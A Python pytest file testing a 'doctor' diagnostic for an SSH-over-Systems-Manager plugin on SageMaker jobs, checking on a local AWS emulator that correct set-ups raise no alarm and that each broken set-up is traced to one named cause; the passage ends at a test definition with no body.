"""Good and broken set-ups on the local emulator: doctor names the one cause, and raises no false alarm."""

from __future__ import annotations

import contextlib
import itertools
import json
import os
import socket
import subprocess
import time
from email.utils import formatdate
from pathlib import Path
from typing import TYPE_CHECKING, Any

import boto3
import botocore
import pytest
from botocore.awsrequest import AWSResponse

from smssh_plugin import __version__
from smssh_plugin.aws import identity_calls
from smssh_plugin.aws.session import ServiceRefused
from smssh_plugin.cli import main
from smssh_plugin.client import ssh_config
from smssh_plugin.doctor import account as account_checks
from smssh_plugin.doctor import job, simulation
from smssh_plugin.doctor.case import Case
from smssh_plugin.doctor.catalogue import chosen
from smssh_plugin.doctor.checks import Finding, Outcome, Result
from smssh_plugin.doctor.run import run
from smssh_plugin.errors import ExitStatus
from smssh_plugin.keys import ensure_key
from smssh_plugin.local.faults import Fault
from tests.aws.peers import Api
from tests.client.nodes import add_node, set_state, set_tag, use
from tests.doctor.vpcs import Vpc, private
from tests.local.service_harness import Service, definition, processing, running, step, training, transform
from tests.waiting import LIMIT, until

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from smssh_plugin.aws.session import AwsSession

pytestmark = pytest.mark.needs("ssh")

ACCOUNT = "123456789012"
NUMBERS = itertools.count(1)
TRUST: dict[str, Any] = {
    "Version": "2012-10-17",
    "Statement": [
        {
            "Effect": "Allow",
            "Principal": {"Service": ["sagemaker.amazonaws.com", "ssm.amazonaws.com"]},
            "Action": "sts:AssumeRole",
        }
    ],
}
DENIED = (
    "User: arn:aws:iam::123456789012:user/ann is not authorized to perform: {} on resource: * because no "
    "identity-based policy allows the {} action"
)


class Account:
    """A set-up: the emulator, this machine, and what is asked."""

    def __init__(
        self, service: Service, session: AwsSession, monkeypatch: pytest.MonkeyPatch, folder: Path
    ) -> None:
        self.service = service
        self.session = session
        self.patch = monkeypatch
        self.folder = folder
        number = next(NUMBERS)
        self.name = f"job-{number}"
        self.pipe = f"pipe-{number}"
        self.role_name = f"Role-{number}"
        """The emulator is the same for all tests, and what is made there stays."""
        self.job: str | None = None
        self.pipeline: str | None = None
        self.subnets: list[str] = []
        self.groups: list[str] = []
        self.node = ""
        self.ends: list[Callable[[], None]] = []

    def role(self, trust: dict[str, Any] = TRUST) -> None:
        """The role of the jobs, in place of the one that was there."""
        iam = self.service.client("iam")
        iam.update_assume_role_policy(RoleName=self.role_name, PolicyDocument=json.dumps(trust))

    def running(self, kind: str = "training", node: bool = True, **more: Any) -> None:
        """A job that runs, with SSH in its request and its node online."""
        environment = {
            "SMSSH_ENABLE": "1",
            "SMSSH_ROLE": self.role_name,
            "OUTCOME": "hold",
            **more.pop("Environment", {}),
        }
        sagemaker = self.service.sagemaker
        if kind == "training":
            sagemaker.create_training_job(
                TrainingJobName=self.name, **training(Environment=environment, **more)
            )
        elif kind == "processing":
            sagemaker.create_processing_job(
                ProcessingJobName=self.name, **processing(Environment=environment, **more)
            )
        else:
            container = {"Image": "image", "ModelDataUrl": "s3://bucket/model.tar.gz"}
            arn = f"arn:aws:iam::123456789012:role/{self.role_name}"
            sagemaker.create_model(ModelName=self.name, PrimaryContainer=container, ExecutionRoleArn=arn)
            sagemaker.create_transform_job(
                TransformJobName=self.name, **transform(Environment=environment, ModelName=self.name, **more)
            )
        until(lambda: self.name in self.service.runner.running)
        self.job = f"{self.name}.{kind}.sagemaker"
        if node:
            self.node = self.add_node(kind)

    def add_node(self, kind: str = "training") -> str:
        """An online node that claims to be the job's host, with the job's role."""
        node = add_node(self.service, self.name, kind)
        self.service.sessions.nodes.nodes[node].activation.role = self.role_name
        return node

    def fails(self, operation: str, code: str = "AccessDeniedException", message: str = "") -> None:
        """Have an operation fail from now on."""
        self.service.sessions.faults.add(
            Fault(operation, code, message or DENIED.format(operation, operation))
        )

    def results(self, *names: str, limit: float = 60.0) -> dict[str, Result]:
        """What doctor finds, by the ids of the checks."""
        named = (("job", self.job), ("pipeline", self.pipeline), ("subnet", self.subnets))
        given = [name for name, value in named if value]
        case = Case(self.session, self.job, self.pipeline, self.subnets, self.groups)
        return {each.check.id: each for each in run(chosen(names, given), case, limit=limit)}

    def findings(self, outcome: Outcome, *names: str) -> dict[str, Finding]:
        return {
            name: each.finding
            for name, each in self.results(*names).items()
            if each.finding.outcome is outcome
        }


@pytest.fixture(scope="module")
def emulator() -> Iterator[Service]:
    """One for all: moto takes seconds to start."""
    with running() as service:
        yield service


@pytest.fixture
def account(emulator: Service, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[Account]:
    for name in list(os.environ):
        if name.startswith(
            ("SMSSH_O", "SMSSH_R", "SMSSH_N", "HTTP", "http", "AWS_CA", "SSL_CERT", "REQUESTS")
        ):
            monkeypatch.delenv(name)
    monkeypatch.setenv("AWS_CONFIG_FILE", str(tmp_path / "aws"))
    monkeypatch.setenv("AWS_SHARED_CREDENTIALS_FILE", str(tmp_path / "aws-keys"))
    found = Account(emulator, use(emulator, monkeypatch), monkeypatch, tmp_path)
    emulator.client("iam").create_role(RoleName=found.role_name, AssumeRolePolicyDocument=json.dumps(TRUST))
    with contextlib.suppress(emulator.client("iam").exceptions.EntityAlreadyExistsException):
        emulator.client("iam").create_role(
            RoleName="SageMakerRole", AssumeRolePolicyDocument=json.dumps(TRUST)
        )
    yield found
    for end in found.ends:
        end()
    emulator.sessions.faults.clear()
    emulator.sessions.tier = "advanced"


# ------------------------------------------------------------------------------------------------- good ones


def _without_ssm() -> dict[str, Any]:
    statement = {**TRUST["Statement"][0], "Principal": {"Service": "sagemaker.amazonaws.com"}}
    return {"Version": "2012-10-17", "Statement": [statement]}


def bare(_: Account) -> None:
    """Nothing but an account."""


def logged_in_before(account: Account) -> None:
    ensure_key()
    ssh_config.install()


def variables_that_do_not_count(account: Account) -> None:
    account.patch.setenv("HTTPS_PROXY", "socks5://localhost:1")
    account.patch.setenv("AWS_CA_BUNDLE", needs_certificates())
    account.patch.setenv("SSL_CERT_FILE", "/nonexistent")


def needs_certificates() -> str:
    """A file of certificates that there is for sure."""
    return str(Path(botocore.__file__).with_name("cacert.pem"))


def a_key_with_a_passphrase(account: Account) -> None:
    private = ensure_key().private
    subprocess.run(
        ["ssh-keygen", "-q", "-p", "-P", "", "-N", "secret", "-f", str(private)], check=True, timeout=LIMIT
    )


def with_a_config_of_ones_own(account: Account) -> None:
    config = account.folder / ".ssh" / "config"
    config.parent.mkdir(mode=0o700)
    config.write_text("Host *\n  User ann\n  ProxyJump bastion\n  StrictHostKeyChecking no\n")
    ssh_config.install()


def a_training_job(account: Account) -> None:
    account.running()


def a_processing_job(account: Account) -> None:
    account.running("processing")


def a_transform_job(account: Account) -> None:
    account.running("transform")


def a_job_in_a_vpc(account: Account) -> None:
    account.running(node=False, VpcConfig=config_of(private(account.service)))


def a_job_in_a_vpc_that_is_online(account: Account) -> None:
    account.running(VpcConfig={"Subnets": ["subnet-1"], "SecurityGroupIds": ["sg-1"]})


def a_processing_job_in_a_vpc(account: Account) -> None:
    network = {"VpcConfig": config_of(private(account.service))}
    account.running("processing", node=False, NetworkConfig=network)


def config_of(vpc: Vpc) -> dict[str, list[str]]:
    return {"Subnets": [vpc.subnet], "SecurityGroupIds": [vpc.job_group]}


def in_subnet(account: Account, vpc: Vpc, group: str = "") -> None:
    account.subnets, account.groups = [vpc.subnet], [group or vpc.job_group]


def a_subnet_with_endpoints(account: Account) -> None:
    in_subnet(account, private(account.service))


def a_subnet_with_endpoints_for_its_own_addresses(account: Account) -> None:
    """The endpoints' group lets in the subnet, and not the job's group, which nobody named."""
    account.subnets = [private(account.service, source="10.0.0.0/16").subnet]


def a_subnet_with_nat(account: Account) -> None:
    vpc = Vpc(account.service)
    vpc.nat()
    in_subnet(account, vpc)


def a_subnet_with_nat_and_an_endpoint_without_private_dns(account: Account) -> None:
    vpc = Vpc(account.service)
    vpc.nat()
    vpc.interface("ssm", private_dns=False)
    in_subnet(account, vpc)


def a_native_job_in_a_vpc(account: Account) -> None:
    vpc = Vpc(account.service)
    vpc.interface("ssmmessages")
    vpc.open(vpc.endpoint_group, group_of=vpc.job_group)
    debug = {"EnableRemoteDebug": True}
    account.running(node=False, VpcConfig=config_of(vpc), RemoteDebugConfig=debug)


def a_pipeline_in_a_vpc(account: Account) -> None:
    environment = {"SMSSH_ENABLE": "1"}
    arguments = training(Environment=environment, VpcConfig=config_of(private(account.service)))
    variable = {"Subnets": [{"Get": "Parameters.Subnet"}], "SecurityGroupIds": []}
    steps = (
        step("Train", "Training", arguments),
        step("Other", "Training", training(Environment=environment, VpcConfig=variable)),
    )
    parameters = [{"Name": "Subnet", "Type": "String", "DefaultValue": "subnet-1"}]
    account.service.pipeline(definition(*steps, Parameters=parameters), account.pipe)
    account.pipeline = account.pipe


def a_job_by_its_bare_name(account: Account) -> None:
    account.running()
    account.job = account.name


def a_native_job(account: Account) -> None:
    account.running(node=False, Environment={"SMSSH_ROLE": ""}, RemoteDebugConfig={"EnableRemoteDebug": True})
    account.role(_without_ssm())


def a_native_job_without_the_tier(account: Account) -> None:
    a_native_job(account)
    account.service.sessions.tier = "standard"


def a_held_job_of_an_owner(account: Account) -> None:
    account.running()
    set_tag(account.service, account.node, "SSHOwner", "ann")
    set_state(account.service, account.node, "held")
    account.patch.setenv("SMSSH_OWNER", "ann")
    account.patch.setenv("SMSSH_ROLE", account.role_name)


def a_narrow_trust_policy(account: Account) -> None:
    statement = {
        **TRUST["Statement"][0],
        "Condition": {
            "StringEquals": {"aws:SourceAccount": "123456789012"},
            "ArnLike": {"aws:SourceArn": "arn:aws:ssm:us-east-1:123456789012:*"},
        },
    }
    account.role({"Version": "2012-10-17", "Statement": [statement]})
    account.running(node=False)


def a_container_that_started_again(account: Account) -> None:
    account.running()
    nodes = account.service.sessions.nodes.nodes
    nodes[account.node].registered = time.time() - 100
    nodes[account.add_node()].registered = time.time() + 60


def a_pipeline(account: Account) -> None:
    arguments = training(Environment={"SMSSH_ENABLE": "1", "OUTCOME": "hold"})
    account.service.pipeline(definition(step("Train", "Training", arguments)), account.pipe)
    arn = account.service.start_pipeline(account.pipe)
    until(lambda: account.service.steps(arn).get("Train", {}).get("Metadata"))
    account.pipeline = account.pipe


def a_step_of_a_pipeline(account: Account) -> None:
    a_pipeline(account)
    arn = account.service.sagemaker.list_pipeline_executions(PipelineName=account.pipe)[
        "PipelineExecutionSummaries"
    ][0]["PipelineExecutionArn"]
    until(lambda: account.service.steps(arn)["Train"]["Metadata"].get("TrainingJob"))
    name = next(one.name for one in account.service.runner.jobs if arn.rpartition("/")[2] in one.name)
    node = add_node(account.service, name, Step="Train")
    account.service.sessions.nodes.nodes[node].activation.role = "SageMakerRole"
    account.job = f"Train.{account.pipe}.pipeline.sagemaker"


def preferences_of_their_own(account: Account) -> None:
    content = {
        "schemaVersion": "1.0",
        "sessionType": "Standard_Stream",
        "inputs": {"idleSessionTimeout": "20", "kmsKeyId": "1234", "runAsEnabled": True},
    }
    ssm = account.service.client("ssm")
    document = {"Name": "SSM-SessionManagerRunShell", "DocumentVersion": "$LATEST"}
    before = ssm.get_document(Name=document["Name"])["Content"]
    ssm.update_document(Content=json.dumps(content), **document)
    account.ends.append(lambda: ssm.update_document(Content=before, **document))


def a_job_group_for_endpoints_and_the_prefix_list_of_s3(account: Account) -> None:
    vpc = private(account.service)
    to = [{"GroupId": vpc.endpoint_group}]
    vpc.out(vpc.job_group, UserIdGroupPairs=to, PrefixListIds=[{"PrefixListId": "pl-63a5400a"}])
    in_subnet(account, vpc)


def one_group_for_jobs_and_endpoints_that_lets_itself_in_and_out(account: Account) -> None:
    """With an interface endpoint for S3."""
    vpc = Vpc(account.service)
    vpc.endpoint_group = vpc.job_group
    for each in ("ssm", "ssmmessages", "s3"):
        vpc.interface(each)
    vpc.open(vpc.job_group, group_of=vpc.job_group)
    vpc.out(vpc.job_group, UserIdGroupPairs=[{"GroupId": vpc.job_group}])
    in_subnet(account, vpc)


def a_job_group_for_the_addresses_of_the_vpc_and_a_prefix_list(account: Account) -> None:
    vpc = private(account.service)
    lists = [{"PrefixListId": "pl-63a5400a"}]
    vpc.out(vpc.job_group, IpRanges=[{"CidrIp": "10.0.0.0/16"}], PrefixListIds=lists)
    in_subnet(account, vpc)


def trust_by_a_pattern_of_regions(account: Account) -> None:
    like = {"ArnEquals": {"aws:SourceArn": "arn:aws:ssm:*:123456789012:managed-instance/*"}}
    account.role({"Version": "2012-10-17", "Statement": [{**TRUST["Statement"][0], "Condition": like}]})
    account.running(node=False)


def a_role_with_its_path(account: Account) -> None:
    role_at(account, "/team/a/")
    account.running(node=False, Environment={"SMSSH_ROLE": f"team/a/{account.role_name}"})


def a_role_by_its_arn(account: Account) -> None:
    role_at(account, "/team/")
    arn = f"arn:aws:iam::{ACCOUNT}:role/team/{account.role_name}"
    account.running(node=False, Environment={"SMSSH_ROLE": arn})


def role_at(account: Account, path: str) -> None:
    """The role in another path."""
    iam = account.service.client("iam")
    iam.delete_role(RoleName=account.role_name)
    iam.create_role(RoleName=account.role_name, Path=path, AssumeRolePolicyDocument=json.dumps(TRUST))


def a_home_with_a_space(account: Account) -> None:
    account.patch.setenv("SMSSH_HOME", str(account.folder / "my home"))
    ensure_key()
    ssh_config.install()


GOOD = (
    bare,
    a_job_group_for_endpoints_and_the_prefix_list_of_s3,
    one_group_for_jobs_and_endpoints_that_lets_itself_in_and_out,
    a_job_group_for_the_addresses_of_the_vpc_and_a_prefix_list,
    trust_by_a_pattern_of_regions,
    a_role_with_its_path,
    a_role_by_its_arn,
    a_home_with_a_space,
    logged_in_before,
    variables_that_do_not_count,
    a_key_with_a_passphrase,
    with_a_config_of_ones_own,
    a_training_job,
    a_processing_job,
    a_transform_job,
    a_job_in_a_vpc,
    a_job_in_a_vpc_that_is_online,
    a_processing_job_in_a_vpc,
    a_subnet_with_endpoints,
    a_subnet_with_endpoints_for_its_own_addresses,
    a_subnet_with_nat,
    a_subnet_with_nat_and_an_endpoint_without_private_dns,
    a_native_job_in_a_vpc,
    a_pipeline_in_a_vpc,
    a_job_by_its_bare_name,
    a_native_job,
    a_native_job_without_the_tier,
    a_held_job_of_an_owner,
    a_narrow_trust_policy,
    a_container_that_started_again,
    a_pipeline,
    a_step_of_a_pipeline,
    preferences_of_their_own,
)


@pytest.mark.parametrize("arrange", GOOD, ids=lambda each: each.__name__)
def test_a_good_set_up_has_no_problem(account: Account, arrange: Callable[[Account], None]) -> None:
    arrange(account)
    found = account.results()
    bad = {
        name: each.finding
        for name, each in found.items()
        if each.finding.outcome in (Outcome.PROBLEM, Outcome.CRASH) or each.finding.waits_for
    }
    assert bad == {}
    # The emulator's IAM does not simulate, and nothing else is missing.
    unsure = {n: f.finding for n, f in found.items() if f.finding.outcome is Outcome.UNKNOWN}
    assert all("SimulatePrincipalPolicy" in f.message + "".join(f.details) for f in unsure.values()), unsure


# ----------------------------------------------------------------------------------------------- broken ones


def no_region(account: Account) -> None:
    account.patch.delenv("AWS_DEFAULT_REGION")


def no_credentials(account: Account) -> None:
    account.patch.delenv("AWS_ACCESS_KEY_ID")
    account.patch.delenv("AWS_SECRET_ACCESS_KEY")


def expired_credentials(account: Account) -> None:
    account.fails("sts:GetCallerIdentity", "ExpiredToken", "The security token is expired")


def nobody_answers(account: Account) -> None:
    with socket.create_server(("127.0.0.1", 0)) as listener:
        port = listener.getsockname()[1]
    account.patch.setenv("AWS_ENDPOINT_URL", f"http://127.0.0.1:{port}")


def a_clock_that_is_wrong(account: Account) -> None:
    api = Api()
    account.ends.append(api.close)

    def answer(handler: Any) -> None:
        handler.send_response_only(403)
        handler.send_header("Date", formatdate(time.time() + 1380, usegmt=True))
        handler.send_header("Content-Length", "0")
        handler.end_headers()

    api.answers += [answer] * 9
    account.patch.setenv("AWS_ENDPOINT_URL_SSM", api.url)


def a_proxy_that_is_gone(account: Account) -> None:
    with socket.create_server(("127.0.0.1", 0)) as listener:
        port = listener.getsockname()[1]
    account.patch.setenv("NO_PROXY", "")
    account.patch.setenv("HTTP_PROXY", f"http://127.0.0.1:{port}")


def a_proxy_that_is_no_url(account: Account) -> None:
    account.patch.setenv("NO_PROXY", "")
    account.patch.setenv("HTTP_PROXY", "http://ann:pass/word@proxy:3128")


def a_bundle_that_is_not_there(account: Account) -> None:
    account.patch.setenv("AWS_CA_BUNDLE", str(account.folder / "none.pem"))


def a_key_that_others_can_read(account: Account) -> None:
    ensure_key().private.chmod(0o644)


def halves_of_two_keys(account: Account) -> None:
    private = ensure_key().private
    public = private.with_name(private.name + ".pub")
    other = public.read_text()
    private.unlink()
    public.unlink()
    ensure_key()
    public.write_text(other)


def a_configuration_that_is_not_included(account: Account) -> None:
    ssh_config.install()
    (account.folder / ".ssh" / "config").write_text("Host *\n  User ann\n")


def a_configuration_below_another(account: Account) -> None:
    ssh_config.install()
    config = account.folder / ".ssh" / "config"
    config.write_text(f"Host *\n  ProxyCommand nc %h %p\n{config.read_text()}")


def a_configuration_of_a_program_that_is_gone(account: Account) -> None:
    path, _ = ssh_config.install()
    words = next(line for line in path.read_text().splitlines() if "ProxyCommand" in line).split()
    path.write_text(path.read_text().replace(f"ProxyCommand {words[1]}", "ProxyCommand /gone/smssh"))


def a_configuration_that_others_can_write(account: Account) -> None:
    ssh_config.install()
    (account.folder / ".ssh" / "config").chmod(0o666)


def the_tier_is_standard(account: Account) -> None:
    account.service.sessions.tier = "standard"
    account.running()


def may_not_find_hosts(account: Account) -> None:
    account.fails("ssm:DescribeInstanceInformation")


def a_policy_that_denies_sessions(account: Account) -> None:
    text = "is not authorized to perform: ssm:StartSession with an explicit deny in a service control policy"
    account.fails("ssm:StartSession", message=text)


def no_such_job(account: Account) -> None:
    account.job = f"{account.name}.training.sagemaker"


def another_kind_of_job(account: Account) -> None:
    account.running("processing")
    account.job = f"{account.name}.training.sagemaker"


def no_such_host(account: Account) -> None:
    account.running()
    account.job = f"algo-7.{account.name}.training.sagemaker"


def a_job_that_has_failed(account: Account) -> None:
    account.service.sagemaker.create_training_job(
        TrainingJobName=account.name, **training(Environment={"SMSSH_ENABLE": "1", "OUTCOME": "fail"})
    )
    account.service.job_status("Training", account.name, "Failed")
    account.job = account.name


def a_job_without_smssh(account: Account) -> None:
    environment = {"OUTCOME": "hold"}
    account.service.sagemaker.create_training_job(
        TrainingJobName=account.name, **training(Environment=environment)
    )
    account.job = account.name


def a_job_with_smssh_off(account: Account) -> None:
    account.running(node=False, Environment={"SMSSH_ENABLE": "0"})


def network_isolation(account: Account) -> None:
    account.running(node=False, EnableNetworkIsolation=True)


def no_trust(account: Account) -> None:
    account.role(_without_ssm())
    account.running(node=False)


def trust_in_another_account(account: Account) -> None:
    condition = {"StringEquals": {"aws:SourceAccount": "999999999999"}}
    account.role({"Version": "2012-10-17", "Statement": [{**TRUST["Statement"][0], "Condition": condition}]})
    account.running(node=False)


def no_such_role(account: Account) -> None:
    account.running(node=False, Environment={"SMSSH_ROLE": "gone"})


def a_host_that_did_not_register(account: Account) -> None:
    account.running("processing", node=False)
    account.patch.setattr(job, "REGISTER_SECONDS", 0.0)


def a_node_that_is_offline(account: Account) -> None:
    account.running()
    account.service.sessions.nodes.nodes[account.node].pinged = time.time() - 3600


def a_container_that_has_ended(account: Account) -> None:
    account.running()
    set_state(account.service, account.node, "ended")


def two_that_claim_the_host(account: Account) -> None:
    account.running()
    for node in (account.node, account.add_node()):
        account.service.sessions.nodes.nodes[node].registered = time.time() + 60


def a_node_of_another_role(account: Account) -> None:
    account.running()
    account.service.sessions.nodes.nodes[account.node].activation.role = "foreign"


def another_owner(account: Account) -> None:
    account.running()
    set_tag(account.service, account.node, "SSHOwner", "ben")
    account.patch.setenv("SMSSH_OWNER", "ann")


def a_role_that_is_not_the_nodes(account: Account) -> None:
    account.running()
    account.patch.setenv("SMSSH_ROLE", "other")


def no_host_key(account: Account) -> None:
    account.running()
    set_tag(account.service, account.node, "SMSSHHostKey", "none")


def no_such_pipeline(account: Account) -> None:
    account.pipeline = account.pipe


def a_pipeline_without_smssh(account: Account) -> None:
    account.service.pipeline(definition(step("Train", "Training", training())), account.pipe)
    account.pipeline = account.pipe


def a_pipeline_without_jobs(account: Account) -> None:
    account.service.pipeline(definition(step("Stop", "Fail", {"ErrorMessage": "no"})), account.pipe)
    account.pipeline = account.pipe


def no_such_subnet(account: Account) -> None:
    account.subnets = ["subnet-0123456789abcdef0"]


def subnets_of_two_vpcs(account: Account) -> None:
    account.subnets = [private(account.service).subnet, private(account.service).subnet]


def no_endpoint_at_all(account: Account) -> None:
    in_subnet(account, Vpc(account.service))


def no_endpoint_for_systems_manager(account: Account) -> None:
    in_subnet(account, private(account.service, "ssm"))


def no_endpoint_for_channels(account: Account) -> None:
    account.running(node=False, VpcConfig=config_of(private(account.service, "ssmmessages")))


def no_endpoint_for_s3(account: Account) -> None:
    in_subnet(account, private(account.service, "s3"))


def an_endpoint_for_s3_in_another_route_table(account: Account) -> None:
    vpc = private(account.service, "s3")
    vpc.gateway(vpc.ec2.create_route_table(VpcId=vpc.id)["RouteTable"]["RouteTableId"])
    in_subnet(account, vpc)


def an_internet_gateway_only(account: Account) -> None:
    vpc = Vpc(account.service)
    vpc.internet()
    in_subnet(account, vpc)


def a_nat_gateway_in_another_route_table(account: Account) -> None:
    vpc = Vpc(account.service)
    vpc.nat()
    own = vpc.ec2.create_route_table(VpcId=vpc.id)["RouteTable"]["RouteTableId"]
    vpc.ec2.associate_route_table(RouteTableId=own, SubnetId=vpc.subnet)
    in_subnet(account, vpc)


def endpoints_without_private_dns(account: Account) -> None:
    in_subnet(account, private(account.service, private_dns=False))


def a_vpc_without_dns_names(account: Account) -> None:
    vpc = private(account.service)
    vpc.ec2.modify_vpc_attribute(VpcId=vpc.id, EnableDnsHostnames={"Value": False})
    in_subnet(account, vpc)


def a_vpc_without_dns(account: Account) -> None:
    vpc = private(account.service)
    vpc.ec2.modify_vpc_attribute(VpcId=vpc.id, EnableDnsSupport={"Value": False})
    in_subnet(account, vpc)


def a_group_that_lets_nothing_out(account: Account) -> None:
    vpc = private(account.service)
    vpc.close(vpc.job_group)
    in_subnet(account, vpc)


def a_group_that_is_not_there(account: Account) -> None:
    vpc = private(account.service, source="10.0.0.0/16")
    in_subnet(account, vpc, "sg-0123456789abcdef0")


def endpoints_that_let_other_addresses_in(account: Account) -> None:
    in_subnet(account, private(account.service, source="192.168.0.0/16"))


def endpoints_that_let_in_another_port(account: Account) -> None:
    """Private DNS leads there, although there is NAT."""
    vpc = Vpc(account.service)
    vpc.nat()
    vpc.interface("ssm")
    vpc.open(vpc.endpoint_group, group_of=vpc.job_group, port=22)
    in_subnet(account, vpc)


def endpoints_that_let_in_another_group(account: Account) -> None:
    vpc = private(account.service)
    in_subnet(account, vpc, vpc.group("another"))


def more_nodes_than_the_quota(account: Account) -> None:
    for number in range(3):
        add_node(account.service, f"{account.name}-many-{number}")
    quotas(account, {"QuotaName": "Managed nodes per account", "Value": 2.0})


def a_job_group_that_lets_nothing_out_to_s3(account: Account) -> None:
    """A gateway endpoint leaves S3 its public addresses."""
    vpc = private(account.service)
    vpc.out(vpc.job_group, UserIdGroupPairs=[{"GroupId": vpc.endpoint_group}])
    in_subnet(account, vpc)


def a_job_group_that_lets_out_to_itself_only(account: Account) -> None:
    vpc = private(account.service)
    vpc.out(vpc.job_group, UserIdGroupPairs=[{"GroupId": vpc.job_group}])
    in_subnet(account, vpc)


def nat_and_a_group_for_the_networks_own_addresses(account: Account) -> None:
    vpc = Vpc(account.service)
    vpc.nat()
    vpc.out(vpc.job_group, IpRanges=[{"CidrIp": "10.0.0.0/8"}])
    in_subnet(account, vpc)


def a_nat_gateway_that_is_gone(account: Account) -> None:
    vpc = Vpc(account.service)
    vpc.nat()
    original = identity_calls.call

    def gone(session: AwsSession, service: str, operation: str, **arguments: Any) -> Any:
        answer = original(session, service, operation, **arguments)
        for table in answer.get("RouteTables", ()):
            for route in table["Routes"]:
                if route.get("NatGatewayId"):
                    route["State"] = "blackhole"
        return answer

    account.patch.setattr(identity_calls, "call", gone)
    in_subnet(account, vpc)


def trust_that_wants_a_star(account: Account) -> None:
    """StringEquals knows no patterns."""
    equal = {"StringEquals": {"aws:SourceArn": "arn:aws:ssm:us-east-1:123456789012:*"}}
    account.role({"Version": "2012-10-17", "Statement": [{**TRUST["Statement"][0], "Condition": equal}]})
    account.running(node=False)


def trust_that_is_denied(account: Account) -> None:
    deny = {**TRUST["Statement"][0], "Effect": "Deny", "Principal": {"Service": "ssm.amazonaws.com"}}
    account.role({"Version": "2012-10-17", "Statement": [*TRUST["Statement"], deny]})
    account.running(node=False)


def a_role_without_its_path(account: Account) -> None:
    role_at(account, "/team/")
    account.running(node=False)


def a_role_of_another_account(account: Account) -> None:
    arn = f"arn:aws:iam::999999999999:role/{account.role_name}"
    account.running(node=False, Environment={"SMSSH_ROLE": arn})


def half_a_profile(account: Account) -> None:
    profile(account, f"role_arn = arn:aws:iam::{ACCOUNT}:role/{account.role_name}")


def a_program_for_credentials_that_is_gone(account: Account) -> None:
    profile(account, "credential_process = /gone/login --json")


def a_program_for_credentials_that_says_something_else(account: Account) -> None:
    profile(account, "credential_process = echo hello")


def a_file_for_a_token_that_is_gone(account: Account) -> None:
    role = f"role_arn = arn:aws:iam::{ACCOUNT}:role/{account.role_name}"
    profile(account, f"{role}\nweb_identity_token_file = /gone/token")


def profile(account: Account, lines: str) -> None:
    """A profile for credentials, in place of those of variables."""
    no_credentials(account)
    (account.folder / "aws").write_text(f"[default]\nregion = us-east-1\n{lines}\n")


def a_configuration_that_cannot_be_read(account: Account) -> None:
    (account.folder / "aws").write_text("[default]\n[default]\n")


def no_such_profile(account: Account) -> None:
    account.patch.setenv("AWS_PROFILE", "gone")


def an_endpoint_that_is_no_url(account: Account) -> None:
    account.patch.setenv("AWS_ENDPOINT_URL_SSM", "localhost:4566")


def a_job_that_is_being_stopped(account: Account) -> None:
    account.running(Environment={"OUTCOME": "stubborn"})
    account.service.sagemaker.stop_training_job(TrainingJobName=account.name)
    account.ends.append(lambda: account.service.release(account.name))


BROKEN = {
    a_job_group_that_lets_nothing_out_to_s3: "network.job-groups",
    a_job_group_that_lets_out_to_itself_only: "network.job-groups",
    nat_and_a_group_for_the_networks_own_addresses: "network.job-groups",
    a_nat_gateway_that_is_gone: "network.endpoints",
    trust_that_wants_a_star: "job.role",
    trust_that_is_denied: "job.role",
    a_role_without_its_path: "job.role",
    a_role_of_another_account: "job.role",
    half_a_profile: "identity.credentials",
    a_program_for_credentials_that_is_gone: "identity.credentials",
    a_program_for_credentials_that_says_something_else: "identity.credentials",
    a_file_for_a_token_that_is_gone: "identity.credentials",
    a_configuration_that_cannot_be_read: "laptop.region",
    no_such_profile: "laptop.region",
    an_endpoint_that_is_no_url: "laptop.region",
    a_job_that_is_being_stopped: "job.state",
    no_such_subnet: "network.subnets",
    subnets_of_two_vpcs: "network.subnets",
    no_endpoint_at_all: "network.endpoints",
    no_endpoint_for_systems_manager: "network.endpoints",
    no_endpoint_for_channels: "network.endpoints",
    no_endpoint_for_s3: "network.endpoints",
    an_endpoint_for_s3_in_another_route_table: "network.endpoints",
    an_internet_gateway_only: "network.endpoints",
    a_nat_gateway_in_another_route_table: "network.endpoints",
    endpoints_without_private_dns: "network.private-dns",
    a_vpc_without_dns_names: "network.private-dns",
    a_vpc_without_dns: "network.private-dns",
    a_group_that_lets_nothing_out: "network.job-groups",
    a_group_that_is_not_there: "network.job-groups",
    endpoints_that_let_other_addresses_in: "network.endpoint-groups",
    endpoints_that_let_in_another_port: "network.endpoint-groups",
    endpoints_that_let_in_another_group: "network.endpoint-groups",
    more_nodes_than_the_quota: "account.nodes",
    no_region: "laptop.region",
    no_credentials: "identity.credentials",
    expired_credentials: "identity.credentials",
    nobody_answers: "laptop.endpoints",
    a_clock_that_is_wrong: "laptop.clock",
    a_proxy_that_is_gone: "laptop.proxy",
    a_proxy_that_is_no_url: "laptop.proxy",
    a_bundle_that_is_not_there: "laptop.certificates",
    a_key_that_others_can_read: "laptop.keys",
    halves_of_two_keys: "laptop.keys",
    a_configuration_that_is_not_included: "laptop.ssh-config",
    a_configuration_below_another: "laptop.ssh-config",
    a_configuration_of_a_program_that_is_gone: "laptop.ssh-config",
    a_configuration_that_others_can_write: "laptop.ssh-config",
    the_tier_is_standard: "account.tier",
    may_not_find_hosts: "permissions.find-hosts",
    a_policy_that_denies_sessions: "permissions.start-session",
    no_such_job: "job.exists",
    another_kind_of_job: "job.exists",
    no_such_host: "job.exists",
    a_job_that_has_failed: "job.state",
    a_job_without_smssh: "job.request",
    a_job_with_smssh_off: "job.request",
    network_isolation: "job.network",
    no_trust: "job.role",
    trust_in_another_account: "job.role",
    no_such_role: "job.role",
    a_host_that_did_not_register: "job.node",
    a_node_that_is_offline: "job.ping",
    a_container_that_has_ended: "job.claimants",
    two_that_claim_the_host: "job.claimants",
    a_node_of_another_role: "job.claimants",
    a_role_that_is_not_the_nodes: "job.claimants",
    another_owner: "job.tags",
    no_host_key: "job.tags",
    no_such_pipeline: "pipeline.exists",
    a_pipeline_without_smssh: "pipeline.definition",
    a_pipeline_without_jobs: "pipeline.definition",
}


@pytest.mark.parametrize(("arrange", "check"), BROKEN.items(), ids=lambda each: getattr(each, "__name__", ""))
def test_the_one_cause_is_named(account: Account, arrange: Callable[[Account], None], check: str) -> None:
    arrange(account)
    found = account.results()
    wrong = {
        name: r.finding for name, r in found.items() if r.finding.outcome in (Outcome.PROBLEM, Outcome.CRASH)
    }
    assert list(wrong) == [check], wrong
    (finding,) = wrong.values()
    assert finding.fix
    assert finding.who
    # What waits for something waits for this.
    assert {each for r in found.values() for each in r.finding.waits_for} <= {check}


def test_what_the_jobs_log_says_is_the_cause(account: Account) -> None:
